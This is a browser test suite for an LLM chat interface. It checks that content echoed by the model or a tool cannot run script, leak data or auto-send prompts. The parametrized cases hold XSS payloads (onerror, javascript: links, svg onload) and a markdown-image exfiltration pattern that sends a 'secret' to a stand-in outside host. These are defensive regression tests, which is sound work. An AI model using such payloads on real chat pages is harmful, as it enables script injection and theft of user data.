"""What ran or was fetched in the pages of others, shown in ours. Leaving the window checks that no dialog opened and
nothing outside was asked for; each case is named after its incident."""

import pytest
from playwright.async_api import expect

from tests.browser.test_xss import INTRUDERS, is_harmless
from tests.browser.visit import OpenedApp
from windlass.testing import call, raw_event, say

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
OUT = "http://outside.invalid"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"![a][r] ![b]({OUT}/b.png?secret=1)\n\n[r]: {OUT}/a.png?secret=1", id="CVE-2025-32711"),
        pytest.param("[click me](javascript:window.canary=1) <javascript:window.canary=1>", id="CVE-2026-109288"),
        pytest.param(
            "<img src=x on<!-- -->error=window.canary=1>`<img src=x onerror=window.canary=1>`", id="CVE-2026-44568"
        ),
        pytest.param(
            "```html\n<script>window.canary=1</script><img src=x onerror=window.canary=1>\n```", id="CVE-2026-45303"
        ),
        pytest.param("![x](data:image/svg+xml,%3Csvg%20onload='window.canary=1'/%3E)", id="CVE-2026-56398"),
        pytest.param(
            "Hi <img src=x onerror=window.canary=1><iframe srcdoc='x'></iframe>", id="mcp-open-client-v2: raw HTML"
        ),
    ],
)
async def test_a_text_of_an_incident_is_only_shown(text: str, app: OpenedApp) -> None:
    app.llm.then(call("echo", text=text), say(f"{text}\n\nThe end."))
    await app.send("go")
    await expect(app.log.get_by_text("The end.")).to_be_visible()
    await is_harmless(app.page)


async def test_cve_2025_64496_an_event_that_tells_the_page_to_execute_is_not_heard(app: OpenedApp) -> None:
    app.llm.then(say("Hello.") + raw_event('{"type": "execute", "choices": [], "code": "window.canary=1"}'))
    await app.send("go")
    await expect(app.log.get_by_text("Hello.")).to_be_visible()
    assert await app.page.evaluate(INTRUDERS) == []


async def test_llama_cpp_25790_an_address_fills_the_box_and_never_sends(app: OpenedApp) -> None:
    await app.go("/ui/?q=delete+everything")
    await expect(app.box).to_have_value("delete everything")
    assert (await app.server.get("/conversations"))["count"] == 0
    assert app.llm.requests == []


async def test_cve_2026_109288_no_script_can_read_what_lets_the_page_in(app: OpenedApp) -> None:
    kept = "() => JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}])"
    told = await app.page.evaluate(kept)
    session = next(one["value"] for one in await app.context.cookies() if one["name"].startswith("windlass_"))
    assert session not in told and app.server.token not in told
